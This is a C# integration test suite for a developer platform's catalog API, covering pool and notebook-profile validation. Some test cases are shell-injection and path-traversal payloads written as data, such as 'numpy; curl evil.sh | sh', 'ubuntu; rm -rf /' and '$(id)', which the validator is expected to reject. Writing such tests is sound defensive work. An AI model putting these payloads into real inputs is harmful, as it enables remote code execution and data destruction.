using System.Net;
using System.Net.Http.Json;
using DevPlatform.IntegrationTests.Fixtures;

namespace DevPlatform.IntegrationTests.Catalog;

public sealed class CatalogApiTests : AdminApiTest
{
    protected override async Task SeedAsync() =>
        await ApiAssert.OkAsync(await Admin.PostAsJsonAsync("/api/pools", new { name = "cpu", acceleratorKind = "cpu", onDemandHourlyPrice = 0.19m }), HttpStatusCode.Created);

    private static object Profile(string name = "jupyter", object? images = null, object? bundles = null, object? sizes = null, string pool = "cpu",
        bool allowCustomImage = false, string? customImagePattern = null) => new
        {
            name, pool, allowCustomImage, customImagePattern,
            images = images ?? new[] { new { name = "scipy", reference = "quay.io/jupyter/scipy-notebook:2025-01-06", @default = true } },
            bundles = bundles ?? new[] { new { name = "ds", manager = "pip", packages = new[] { "pandas>=2.1,<3", "xarray[io]==2024.1.0" } } },
            sizes = sizes ?? new[] { new { name = "small", cpuRequest = "500m", cpuLimit = "2", memoryRequest = "2Gi", memoryLimit = "4Gi" } },
        };

    [Fact]
    public async Task Pool_UnknownAcceleratorKind_NamesKnownKinds()
    {
        var message = await ApiAssert.FieldErrorAsync(await Admin.PostAsJsonAsync("/api/pools", new { name = "tpu", acceleratorKind = "tpu", onDemandHourlyPrice = 1 }), "acceleratorKind");
        Assert.Contains("'tpu' is not a known accelerator kind; known: aws-neuron, cpu, memory-optimised, nvidia-gpu, nvidia-mig, nvidia-timeslicing", message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Pool_ConfigurationCheckedByItsKind()
    {
        var response = await Admin.PostAsJsonAsync("/api/pools", new
        {
            name = "gpu", acceleratorKind = "nvidia-gpu", onDemandHourlyPrice = 3.06m, configuration = new { gpuModel = "v100", colour = "green" },
        });
        var problem = await ApiAssert.ProblemAsync(response, HttpStatusCode.BadRequest);
        var errors = problem.GetProperty("errors");
        Assert.Contains("must be one of", errors.GetProperty("configuration.gpuModel")[0].GetString(), StringComparison.Ordinal);
        Assert.Contains("is required", errors.GetProperty("configuration.gpusPerNode")[0].GetString(), StringComparison.Ordinal);
        Assert.Contains("not a setting", errors.GetProperty("configuration.colour")[0].GetString(), StringComparison.Ordinal);

        var ok = await ApiAssert.OkAsync(await Admin.PostAsJsonAsync("/api/pools", new
        {
            name = "gpu", acceleratorKind = "nvidia-gpu", onDemandHourlyPrice = 3.06m, spotHourlyPrice = 1.2m, capacityType = "spot",
            configuration = new { gpuModel = "a10g", gpusPerNode = 1, instanceTypes = new[] { "g5.xlarge" } },
        }), HttpStatusCode.Created);
        Assert.Equal("spot", ok.GetProperty("capacityType").GetString());
        Assert.Equal(1, ok.GetProperty("configuration").GetProperty("gpusPerNode").GetInt32());
    }

    [Fact]
    public async Task Pool_SpotWithoutSpotPrice_Returns400()
    {
        Assert.Contains("spot", await ApiAssert.FieldErrorAsync(await Admin.PostAsJsonAsync("/api/pools", new { name = "cheap", acceleratorKind = "cpu", onDemandHourlyPrice = 1, capacityType = "spot" }), "spotHourlyPrice"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Profile_Valid_CreatedWithDefaults()
    {
        var created = await ApiAssert.OkAsync(await Admin.PostAsJsonAsync("/api/profiles", Profile()), HttpStatusCode.Created);
        Assert.Equal(300, created.GetProperty("startTimeoutSeconds").GetInt32());
        Assert.Equal("cpu", created.GetProperty("pool").GetString());
        var list = await ApiAssert.OkAsync(await Admin.GetAsync("/api/profiles?pool=cpu"));
        Assert.Equal(1, list.GetProperty("total").GetInt32());
    }

    [Theory]
    [InlineData("ubuntu; rm -rf /")]
    [InlineData("quay.io/Jupyter/scipy-notebook:latest")]
    [InlineData("quay.io/jupyter/scipy-notebook:$(id)")]
    [InlineData("registry:5000/../../etc")]
    public async Task Profile_BadImageReference_Returns400(string reference)
    {
        var response = await Admin.PostAsJsonAsync("/api/profiles", Profile(images: new[] { new { name = "x", reference, @default = false } }));
        Assert.Contains("not an OCI image reference", await ApiAssert.FieldErrorAsync(response, "images[0].reference"), StringComparison.Ordinal);
        Assert.Equal(0, (await ApiAssert.OkAsync(await Admin.GetAsync("/api/profiles"))).GetProperty("total").GetInt32());
    }

    [Theory]
    [InlineData("pip", "numpy; curl evil.sh | sh")]
    [InlineData("pip", "--index-url=http://evil")]
    [InlineData("pip", "git+https://github.com/x/y")]
    [InlineData("pip", "pandas `id`")]
    [InlineData("conda", "numpy && reboot")]
    [InlineData("conda", "../../numpy")]
    public async Task Profile_HostilePackageSpec_Returns400(string manager, string package)
    {
        var response = await Admin.PostAsJsonAsync("/api/profiles", Profile(bundles: new[] { new { name = "b", manager, packages = new[] { package } } }));
        Assert.Contains("we accept", await ApiAssert.FieldErrorAsync(response, "bundles[0].packages[0]"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Profile_LimitsBelowRequestsAndBadQuantities_NameEachField()
    {
        var sizes = new[] { new { name = "s", cpuRequest = "2", cpuLimit = "1", memoryRequest = "4Gi", memoryLimit = "2Gi" }, new { name = "s", cpuRequest = "-1", cpuLimit = "2", memoryRequest = "lots", memoryLimit = "0" } };
        var problem = await ApiAssert.ProblemAsync(await Admin.PostAsJsonAsync("/api/profiles", Profile(sizes: sizes)), HttpStatusCode.BadRequest);
        var errors = problem.GetProperty("errors");
        Assert.Contains("a limit must be at least the request", errors.GetProperty("sizes[0].cpuLimit")[0].GetString(), StringComparison.Ordinal);
        Assert.Contains("a limit must be at least the request", errors.GetProperty("sizes[0].memoryLimit")[0].GetString(), StringComparison.Ordinal);
        Assert.True(errors.TryGetProperty("sizes[1].cpuRequest", out _));
        Assert.True(errors.TryGetProperty("sizes[1].memoryRequest", out _));
        Assert.True(errors.TryGetProperty("sizes[1].memoryLimit", out _));
        Assert.Contains("already used by sizes[0]", errors.GetProperty("sizes[1].name")[0].GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Profile_CustomImageRules()
    {
        Assert.Contains("required when allowCustomImage", await ApiAssert.FieldErrorAsync(await Admin.PostAsJsonAsync("/api/profiles", Profile(allowCustomImage: true)), "customImagePattern"), StringComparison.Ordinal);
        Assert.Contains("not a valid regular expression", await ApiAssert.FieldErrorAsync(await Admin.PostAsJsonAsync("/api/profiles", Profile(allowCustomImage: true, customImagePattern: "ghcr\\.io/(lab")), "customImagePattern"), StringComparison.Ordinal);
        await ApiAssert.OkAsync(await Admin.PostAsJsonAsync("/api/profiles", Profile(allowCustomImage: true, customImagePattern: "ghcr\\.io/my-lab/.+")), HttpStatusCode.Created);
    }

    [Fact]
    public async Task Profile_UnknownPool_Returns400()
    {
        Assert.Contains("no pool named 'nope'", await ApiAssert.FieldErrorAsync(await Admin.PostAsJsonAsync("/api/profiles", Profile(pool: "nope")), "pool"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Delete_InUse_Returns409NamingTheUsers()
    {
        await ApiAssert.OkAsync(await Admin.PostAsJsonAsync("/api/profiles", Profile()), HttpStatusCode.Created);
        var pool = await ApiAssert.ProblemAsync(await Admin.DeleteAsync("/api/pools/cpu"), HttpStatusCode.Conflict);
        Assert.Contains("profile(s) 'jupyter'", pool.GetProperty("detail").GetString(), StringComparison.Ordinal);

        await ApiAssert.OkAsync(await Admin.PostAsJsonAsync("/api/groups", new { name = "lab-a" }), HttpStatusCode.Created);
        await ApiAssert.OkAsync(await Admin.PutAsJsonAsync("/api/groups/lab-a/policy", new { allowedProfiles = new[] { "jupyter" } }));
        var profile = await ApiAssert.ProblemAsync(await Admin.DeleteAsync("/api/profiles/jupyter"), HttpStatusCode.Conflict);
        Assert.Contains("group(s) 'lab-a'", profile.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }
}
